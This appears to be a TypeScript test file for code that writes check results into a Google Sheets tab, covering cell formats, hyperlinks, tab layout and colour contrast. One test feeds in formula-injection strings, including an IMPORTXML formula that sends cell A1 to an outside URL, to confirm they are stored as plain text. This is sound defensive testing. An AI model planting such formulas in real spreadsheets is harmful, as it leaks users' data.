import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { tabRequests } from '#functions/adapters/google/answer-tab.ts';
import { shownRows } from '#functions/adapters/shown-rows.ts';
import type { AnswerCell, AnswerTab, SheetGrid } from '#functions/world.ts';

const aTab = (cells: readonly AnswerCell[], more: Partial<AnswerTab> = {}): AnswerTab => ({
  id: null,
  title: 'チェック結果',
  rows: [{ look: 'error', cells }],
  frozenRows: 0,
  widths: [12],
  ...more,
});
const added = { sheetId: 5, before: null };
const valuesOf = (cells: readonly AnswerCell[]) =>
  tabRequests(aTab(cells), added).flatMap(({ updateCells }) => updateCells?.rows?.[0]?.values ?? []);

describe('what a cell of チェック結果 is given', () => {
  it('a day and a minute are dates, a link leads to its cell', () => {
    const link = { tabId: '77', address: 'B12' };
    expect(
      valuesOf([
        { serial: 45390, shows: 'day' },
        { serial: 45390.25, shows: 'minute' },
        { text: 'B12', link },
        null,
        3,
      ]),
    ).toEqual([
      {
        userEnteredValue: { numberValue: 45390 },
        userEnteredFormat: { numberFormat: { type: 'DATE', pattern: 'yyyy/mm/dd' } },
      },
      {
        userEnteredValue: { numberValue: 45390.25 },
        userEnteredFormat: { numberFormat: { type: 'DATE_TIME', pattern: 'yyyy/mm/dd hh:mm' } },
      },
      { userEnteredValue: { formulaValue: '=HYPERLINK("#gid=77&range=B12","B12")' } },
      {},
      { userEnteredValue: { numberValue: 3 } },
    ]);
  });

  it.each(['=1+1', '+81', '-5', '@x', "'x", '=IMPORTXML("https://example.jp/?"&A1,"//a")'])(
    'a text like %s stays a text',
    (text) => {
      expect(valuesOf([text])).toEqual([{ userEnteredValue: { stringValue: text } }]);
    },
  );

  it('whatever the label of a link, it stays inside its quotation marks', () => {
    const label = fc.string({ unit: fc.constantFrom('"', '&', '=', ')', ',', '東', 'A', '\n') });
    void fc.assert(
      fc.property(label, (text) => {
        const [cell] = valuesOf([{ text, link: { tabId: '0', address: 'A1' } }]);
        const match = /^=HYPERLINK\("#gid=0&range=A1","((?:[^"]|"")*)"\)$/.exec(
          cell?.userEnteredValue?.formulaValue ?? '',
        );
        expect(match?.[1]?.replaceAll('""', '"')).toBe(text);
      }),
    );
  });

  it('reads back as what it shows', () => {
    const link = { tabId: '0', address: 'A1' };
    const cells = ['', { text: 'A1', link }, { serial: 1, shows: 'day' as const }, 0, null, ''];
    expect(
      shownRows([
        { look: 'plain', cells },
        { look: 'plain', cells: [''] },
      ]),
    ).toEqual([[null, 'A1', { serial: 1 }, 0]]);
  });
});

describe('the tab as a whole', () => {
  const before: SheetGrid = {
    tab: '結果',
    id: '5',
    rows: [['old'], ['old']],
    merges: [],
    surface: { rowCount: 4, columnCount: 2, notes: new Map(), backgrounds: new Map() },
  };
  const namesOf = (requests: ReturnType<typeof tabRequests>) => requests.flatMap((request) => Object.keys(request));

  it('is added with an id, a protection that only warns, and widths', () => {
    expect(namesOf(tabRequests(aTab(['x']), added))).toEqual([
      'addSheet',
      'createDeveloperMetadata',
      'addProtectedRange',
      'updateDimensionProperties',
      'updateCells',
      'repeatCell',
    ]);
  });

  it('keeps the name and the widths that people gave it, and grows only where it must', () => {
    const requests = tabRequests(aTab(['x', 'y', 'z']), { sheetId: 5, before });
    expect(namesOf(requests)).toEqual(['updateSheetProperties', 'updateCells', 'repeatCell']);
    expect(requests[0]?.updateSheetProperties).toEqual({
      properties: { sheetId: 5, gridProperties: { frozenRowCount: 0, columnCount: 3 } },
      fields: 'gridProperties.frozenRowCount,gridProperties.columnCount',
    });
  });

  it("a merge that somebody made is undone, and a template's empty tab gets widths", () => {
    const merges = [{ top: 0, left: 0, bottom: 1, right: 2 }];
    expect(namesOf(tabRequests(aTab(['x']), { sheetId: 5, before: { ...before, merges, rows: [['区分']] } }))).toEqual([
      'updateSheetProperties',
      'unmergeCells',
      'updateDimensionProperties',
      'updateCells',
      'repeatCell',
    ]);
  });

  it('is named whole, so that nothing of what stood in it stays', () => {
    const [request] = tabRequests(aTab(['x']), { sheetId: 5, before }).filter(({ updateCells }) => updateCells);
    expect(request?.updateCells?.range).toEqual({ sheetId: 5 });
    expect(request?.updateCells?.fields).toBe('userEnteredValue,userEnteredFormat,dataValidation,note,textFormatRuns');
  });

  it('rows that look alike are one request, and their colours can be read', () => {
    const looks = ['summary', 'plain', 'header', 'error', 'error', 'notice'] as const;
    const tab = aTab([], { rows: looks.map((look) => ({ look, cells: ['x'] })) });
    const repeats = tabRequests(tab, added).flatMap(({ repeatCell }) => repeatCell ?? []);
    expect(repeats.map(({ range }) => [range?.startRowIndex, range?.endRowIndex])).toEqual([
      [0, 1],
      [1, 2],
      [2, 3],
      [3, 5],
      [5, 6],
    ]);
    for (const { cell } of repeats) {
      const { red = 1, green = 1, blue = 1 } = cell?.userEnteredFormat?.backgroundColorStyle?.rgbColor ?? {};
      expect(contrastToBlack([red, green, blue])).toBeGreaterThan(13);
    }
  });
});

/** WCAG 2.2: (L1 + 0.05) / (L2 + 0.05), black having no luminance. */
function contrastToBlack(parts: readonly (number | null)[]): number {
  const [red = 0, green = 0, blue = 0] = parts.map((part) =>
    (part ?? 0) <= 0.04045 ? (part ?? 0) / 12.92 : (((part ?? 0) + 0.055) / 1.055) ** 2.4,
  );
  return (0.2126 * red + 0.7152 * green + 0.0722 * blue + 0.05) / 0.05;
}
